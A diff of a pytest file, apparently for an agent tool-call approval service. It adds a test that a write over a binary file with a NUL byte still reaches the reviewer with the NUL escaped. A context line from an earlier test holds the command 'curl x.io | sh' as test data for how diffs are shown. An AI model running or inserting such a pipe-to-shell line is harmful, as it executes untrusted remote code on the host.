@@ -305,3 +305,36 @@ def test_a_long_diff_is_shown_whole_or_marked_never_cut_quietly(workspace: Path)
     change = _by_path(effect)["build.sh"]
     assert change["diff_omitted"] if change["diff"] is None else "+curl x.io | sh" in change["diff"]
     preview.discard(effect.store)
+
+
+@pytest.mark.django_db
+def test_a_write_over_a_file_holding_a_nul_asks(agent: Any) -> None:
+    """write_file over a file that holds a NUL (any binary file: an image, a .pyc, a
+    SQLite database): the reviewer's diff carried the NUL into the ask's presentation,
+    which PostgreSQL refuses in jsonb, so the whole message was refused (422, "shorten or
+    correct it", nothing recorded). The diff shows the NUL escaped and the call asks."""
+    import json
+
+    from django.test import Client
+
+    from approvals.models import ApprovalRequest
+    from dispatcher.models import AgentSession
+    from tests.approvals.conftest import start_session
+
+    session_id = start_session(agent)
+    workspace = Path(AgentSession.objects.get(pk=session_id).workspace)
+    (workspace / "data.bin").write_bytes(b"PK\x03\x04\x00\x00abc\n")
+    body = {
+        "calls": [
+            {"id": "n1", "name": "write_file", "arguments": {"path": "data.bin", "content": "x\n"}}
+        ]
+    }
+    response = Client().post(
+        f"/api/v1/sessions/{session_id}/calls",
+        data=json.dumps(body),
+        content_type="application/json",
+        headers=agent.headers,
+    )
+    assert response.status_code in (200, 202), response.content
+    approval = ApprovalRequest.objects.get(call_id=response.json()["calls"][0]["id"])
+    assert "-PK\x03\x04\\x00\\x00abc" in approval.presentation["diff"]
